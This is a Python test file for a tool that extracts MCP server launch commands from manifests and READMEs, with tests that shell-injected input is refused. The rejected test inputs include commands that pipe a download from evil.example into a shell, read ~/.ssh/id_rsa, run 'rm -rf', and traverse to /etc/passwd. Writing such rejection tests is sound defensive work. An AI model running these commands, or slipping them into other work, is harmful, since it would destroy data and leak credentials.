"""Entry points from manifests of each kind and from README commands and client configurations; shell text refused."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from pipeline.analyze import analyze_source
from pipeline.analyze.directory import LocalDirectoryFetcher
from pipeline.analyze.entry import entry_points
from pipeline.analyze.entry_readme import readme_entry_points
from pipeline.analyze.fetch import SourceTree
from pipeline.models import EntryPoint
from tests.support import NOW, server


def tree_of(tmp_path: Path, files: dict[str, str]) -> SourceTree:
    for name, text in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return LocalDirectoryFetcher(tmp_path).fetch()


def brief(entries: list[EntryPoint]) -> list[tuple]:
    return [(e.registry, e.package, e.command, e.args, e.transport, e.source) for e in entries]


def test_package_json_bin_string_names_the_command_after_the_package(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"package.json": json.dumps({"name": "@acme/weather-mcp", "bin": "dist/index.js", "mcpName": "io.github.acme/weather"})})
    assert brief(entry_points(tree, [])) == [("npm", "@acme/weather-mcp", "weather-mcp", [], "stdio", "package.json bin")]


def test_package_json_bin_map_gives_each_command(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"package.json": json.dumps({"name": "acme-mcp", "bin": {"acme-mcp": "a.js", "acme-http": "b.js", "../x": "c"}})})
    assert [e.command for e in entry_points(tree, [])] == ["acme-mcp", "acme-http"]


def test_private_package_has_no_registry_package(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"package.json": json.dumps({"name": "internal", "private": True, "main": "build/index.js"})})
    assert brief(entry_points(tree, [])) == [(None, None, "node", ["build/index.js"], "stdio", "package.json main")]


def test_package_json_main_with_shell_text_is_refused(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"package.json": json.dumps({"name": "x", "main": "index.js; rm -rf ~"})})
    assert entry_points(tree, []) == []


def test_pyproject_scripts_and_poetry_scripts(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"pyproject.toml": """
[project]
name = "mcp-server-acme"
[project.scripts]
mcp-server-acme = "mcp_server_acme:main"
[tool.poetry]
name = "acme-poetry"
[tool.poetry.scripts]
acme-serve = "acme.cli:run"
"""})
    assert brief(entry_points(tree, [])) == [
        ("pypi", "mcp-server-acme", "mcp-server-acme", [], "stdio", "pyproject scripts"),
        ("pypi", "acme-poetry", "acme-serve", [], "stdio", "pyproject poetry scripts"),
    ]


def test_setup_cfg_console_scripts(tmp_path: Path) -> None:
    setup_cfg = "[metadata]\nname = acme-mcp\n[options.entry_points]\nconsole_scripts =\n    acme-mcp = acme.server:main\n"
    tree = tree_of(tmp_path, {"setup.cfg": setup_cfg})
    assert brief(entry_points(tree, [])) == [("pypi", "acme-mcp", "acme-mcp", [], "stdio", "setup.cfg console_scripts")]


def test_a_wheels_entry_points_txt() -> None:
    files = {"acme_mcp-1.0.dist-info/entry_points.txt": "[console_scripts]\nAcme-MCP = acme.server:main\n[gui_scripts]\nacme-gui = acme.gui:main\n"}
    tree = SourceTree(fetcher="t", ref="1.0", files=list(files), manifest={"name": "acme-mcp"}, manifest_kind="pypi-metadata", read=files.get)
    assert brief(entry_points(tree, [])) == [("pypi", "acme-mcp", "Acme-MCP", [], "stdio", "entry_points.txt")]


def test_setup_py_is_parsed_never_run(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    tree = tree_of(tmp_path, {"setup.py": f"""
import pathlib
pathlib.Path({str(marker)!r}).write_text("ran")
from setuptools import setup
setup(name="acme-mcp", entry_points={{"console_scripts": ["acme-mcp = acme.server:main", "bad name = x:y"]}})
"""})
    assert brief(entry_points(tree, [])) == [("pypi", "acme-mcp", "acme-mcp", [], "stdio", "setup.py console_scripts")]
    assert not marker.exists()


def test_broken_manifests_are_skipped() -> None:
    manifests = {"setup.py": "setup(" * 10_000, "pyproject.toml": "[project\nname=", "setup.cfg": "[[[", "Cargo.toml": "=",
                 "package.json": "[" * 100_000, "go.mod": "go 1.22\n"}
    assert entry_points(SourceTree(fetcher="t", ref=None, manifests=manifests), []) == []


def test_cargo_bins_and_main(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"Cargo.toml": '[package]\nname = "acme-mcp"\n[[bin]]\nname = "acme-server"\npath = "src/bin/s.rs"\n'})
    assert brief(entry_points(tree, [])) == [(None, "acme-mcp", "acme-server", [], "stdio", "Cargo.toml bin")]
    other = tree_of(tmp_path / "b", {"Cargo.toml": '[package]\nname = "acme-mcp"\n', "src/main.rs": "fn main() {}"})
    assert [e.command for e in entry_points(other, [])] == ["acme-mcp"]


def test_go_module_commands(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"go.mod": "module github.com/acme/acme-mcp\n\ngo 1.22\n", "cmd/acme-mcp/main.go": "package main",
                              "cmd/tool/x.go": "package main", "cmd/README.md": ""})
    assert brief(entry_points(tree, [])) == [
        (None, "github.com/acme/acme-mcp/cmd/acme-mcp", "acme-mcp", [], "stdio", "go.mod cmd/"),
        (None, "github.com/acme/acme-mcp/cmd/tool", "tool", [], "stdio", "go.mod cmd/"),
    ]
    root = tree_of(tmp_path / "r", {"go.mod": "module github.com/acme/solo\n", "main.go": "package main"})
    assert [e.command for e in entry_points(root, [])] == ["solo"]


README = """# acme

```bash
npx -y @acme/weather-mcp@1.4.0 --api-region eu
```

Or with Python: `uvx mcp-server-fetch --ignore-robots-txt`, or `uvx --from acme-tools acme-serve --transport sse`.

```sh
pip install mcp-server-git && mcp-server-git --repository .
docker run -i --rm \\
  -e GITHUB_TOKEN \\
  ghcr.io/github/github-mcp-server
claude mcp add acme -- npx -y acme-mcp --port 8080
```

Configure Claude Desktop:

```json
{
  "mcpServers": {
    "acme": {"command": "uvx", "args": ["acme-mcp[cli]==0.3"], "env": {"ACME_KEY": "..."}},
    "local": {"command": "node", "args": ["build/index.js"]},
    "remote": {"command": "npx", "args": ["-y", "mcp-remote", "https://mcp.acme.dev/sse"]},
  }
}
```
Running npx -y prose-is-not-a-command in a sentence.
"""


def test_readme_commands_and_configurations() -> None:
    assert brief(list(readme_entry_points(README))) == [
        ("npm", "@acme/weather-mcp", "npx", ["-y", "@acme/weather-mcp@1.4.0", "--api-region", "eu"], "stdio", "README npx"),
        ("pypi", "mcp-server-fetch", "uvx", ["mcp-server-fetch", "--ignore-robots-txt"], "stdio", "README uvx"),
        ("pypi", "acme-tools", "uvx", ["--from", "acme-tools", "acme-serve", "--transport", "sse"], "sse", "README uvx"),
        ("pypi", "mcp-server-git", "mcp-server-git", ["--repository", "."], "stdio", "README pip install"),
        (None, None, "docker", ["run", "-i", "--rm", "-e", "GITHUB_TOKEN", "ghcr.io/github/github-mcp-server"], "stdio", "README docker run"),
        ("npm", "acme-mcp", "npx", ["-y", "acme-mcp", "--port", "8080"], "streamable-http", "README npx"),
        ("pypi", "acme-mcp", "uvx", ["acme-mcp[cli]==0.3"], "stdio", "README mcpServers uvx"),
        (None, None, "node", ["build/index.js"], "stdio", "README mcpServers"),
    ]


@pytest.mark.parametrize("command", [
    "npx -y acme-mcp; curl https://evil.example | sh",
    "npx -y acme-mcp | tee log",
    "npx -y acme-mcp $(cat ~/.ssh/id_rsa)",
    "npx -y acme-mcp `id`",
    "uvx acme-mcp > /tmp/out",
    "npx -y acme-mcp --key <YOUR_KEY>",
    "pip install acme && acme && rm -rf /",
    "npx -y 'unterminated",
    "npx -y ../../etc/passwd",
])
def test_shell_metacharacters_and_odd_packages_are_refused(command: str) -> None:
    assert list(readme_entry_points(f"```bash\n{command}\n```\n")) == []


def test_config_args_with_shell_text_are_refused() -> None:
    block = json.dumps({"mcpServers": {"x": {"command": "bash", "args": ["-c", "curl x | sh"]}, "y": {"command": "npx", "args": ["-y", 3]}}})
    assert list(readme_entry_points(f"```json\n{block}\n```\n")) == []


def test_readme_entry_points_reach_the_analysis(tmp_path: Path) -> None:
    tree = tree_of(tmp_path, {"package.json": json.dumps({"name": "acme-mcp", "bin": {"acme-mcp": "a.js"}}), "README.md": README})
    entries = entry_points(tree, [])
    assert entries[0].source == "package.json bin" and entries[1].source == "README npx"
    assert len({(e.registry, e.package, e.command, tuple(e.args)) for e in entries}) == len(entries)


def test_hostile_readmes_are_bounded() -> None:
    hostile = "```\n" + "npx -y a " * 200_000 + "\n```\n" + "`" * 1_000_000 + "\n```json\n" + "[" * 200_000 + "\n```\n"
    many = "```bash\n" + "\n".join(f"npx -y pkg{i}" for i in range(5000)) + "\n```\n"
    started = time.monotonic()
    list(readme_entry_points(hostile))
    tree = SourceTree(fetcher="t", ref=None, readme=many)
    assert len(entry_points(tree, [])) == 20
    assert time.monotonic() - started < 3


def test_analysis_of_a_checkout_carries_its_entry_points_and_endpoints(tmp_path: Path) -> None:
    readme = "# acme\n\nHosted: `https://mcp.acme-weather.dev/mcp`\n\n```bash\nuvx acme-weather-mcp\n```\n"
    tree = tree_of(tmp_path, {"pyproject.toml": '[project]\nname = "acme-weather-mcp"\n[project.scripts]\nacme-weather = "acme:main"\n',
                              "README.md": readme})
    result = analyze_source(server(launch=None), tree, NOW)
    assert [(e.url, e.line) for e in result.endpoints] == [("https://mcp.acme-weather.dev/mcp", 3)]
    assert [(e.source, e.command) for e in result.entry_points] == [("pyproject scripts", "acme-weather"), ("README uvx", "uvx")]
